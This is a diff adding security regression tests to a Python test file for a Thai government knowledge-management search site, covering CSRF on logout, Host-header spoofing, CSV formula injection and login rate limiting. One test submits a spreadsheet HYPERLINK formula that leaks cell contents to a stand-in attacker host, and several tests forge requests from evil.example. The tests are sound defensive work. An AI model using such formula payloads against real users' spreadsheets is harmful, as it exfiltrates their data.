@@ -108,7 +108,10 @@ def test_token_protects_dashboard_and_shows_search_terms_to_the_committee(make_a
     body = text(client.get("/km?year=2567"))
     assert "คำค้นยอดนิยม" in body and "ดาวอังคาร" in body and "ภาษีที่ดิน" in body
     assert "ออกจากระบบ" in body
-    client.post("/km/logout")
+    csrf = re.search(r'name="csrf" value="([0-9a-f]{64})"', body)[1]
+    assert client.post("/km/logout").status_code == 403                 # as another site's form would
+    assert client.get("/km?year=2567").status_code == 200
+    client.post("/km/logout", data={"csrf": csrf})
     assert client.get("/km?year=2567").status_code == 302
 
 
@@ -195,3 +198,55 @@ def test_cli_report_errors(built, tmp_path):
     bad_division = CliRunner().invoke(cli, [*args, "--index", built["INDEX_DIR"], "--division", "nowhere"])
     assert bad_division.exit_code == 1 and "nowhere" in bad_division.output
     assert not (tmp_path / "u.db").exists(), "a report never creates the log"
+
+
+def test_report_links_use_the_public_address_not_the_host_header(make_app, db):
+    client = make_app(USAGE_DB=str(db), PUBLIC_URL="https://km.example.go.th/").test_client()
+    page = text(client.get("/km/report.html?year=2567", headers={"Host": "evil.example"}))
+    links = re.findall(r'href="([^"]*)"', page)
+    assert 'href="https://km.example.go.th/a/land-tax-manual"' in page
+    assert links and all(h.startswith(("https://km.example.go.th/", "#")) for h in links), links
+    assert "evil.example" not in page
+
+
+def test_cli_csv_report_neutralises_a_formula_query(make_app, built, db):
+    app = make_app(USAGE_DB=str(db))
+    app.extensions["kmsearch.usage"].clock = lambda: IN_2567
+    app.test_client().get("/search", query_string={"q": '=HYPERLINK("http://evil.example/?leak="&A1,"x")'})
+    result = CliRunner().invoke(cli, ["report", "--content", built["CONTENT_DIR"], "--index", built["INDEX_DIR"],
+                                      "--usage-db", str(db), "--fiscal-year", "2567", "--format", "csv"])
+    rows = list(csv.reader(io.StringIO(result.output.lstrip("\ufeff"))))
+    assert ["คำค้นที่ไม่พบเอกสาร", "'=hyperlink(\"http://evil.example/?leak=\"&a1,\"x\")", "", "1", ""] in rows
+    md = CliRunner().invoke(cli, ["report", "--content", built["CONTENT_DIR"], "--index", built["INDEX_DIR"],
+                                  "--usage-db", str(db), "--fiscal-year", "2567"]).output
+    assert '| =hyperlink\\("http://evil.example/?leak="&amp;a1,"x"\\) | 1 |' in md
+
+
+def test_sign_out_needs_the_form_of_the_dashboard(make_app, db):
+    client = make_app(USAGE_DB=str(db), KM_TOKEN=TOKEN).test_client()
+    client.post("/km/login", data={"token": TOKEN})
+    forged = client.post("/km/logout", data={"csrf": "0" * 64}, headers={"Origin": "https://evil.example"})
+    assert forged.status_code == 403 and "ออกจากระบบได้จากปุ่มในหน้าตัวชี้วัดเท่านั้น" in text(forged)
+    assert "Set-Cookie" not in forged.headers
+    assert client.get("/km").status_code == 200, "still signed in"
+
+
+def test_sign_in_guesses_are_slowed_per_address(make_app, db):
+    app = make_app(USAGE_DB=str(db), KM_TOKEN=TOKEN)
+    now = [1000.0]
+    app.extensions["kmsearch.logins"].clock = lambda: now[0]
+    client = app.test_client()
+    here, there = {"REMOTE_ADDR": "192.0.2.1"}, {"REMOTE_ADDR": "192.0.2.2"}
+    statuses = [client.post("/km/login", data={"token": f"guess{i}"}, environ_base=here).status_code
+                for i in range(8)]
+    assert statuses[:5] == [401] * 5 and statuses[6:] == [429, 429]
+    refused = client.post("/km/login", data={"token": TOKEN}, environ_base=here)
+    assert refused.status_code == 429, "not even the right token while waiting"
+    assert refused.headers["Retry-After"] == "1" and "กรุณารอ 1 วินาที" in text(refused)
+    assert client.post("/km/login", data={"token": "x"}, environ_base=there).status_code == 401, "per address"
+    now[0] += 1.5
+    assert client.post("/km/login", data={"token": "guess8"}, environ_base=here).status_code == 401
+    assert client.post("/km/login", data={"token": "guess9"}, environ_base=here).headers["Retry-After"] == "2"
+    now[0] += 2.5
+    ok = client.post("/km/login", data={"token": TOKEN}, environ_base=here)
+    assert ok.status_code == 303
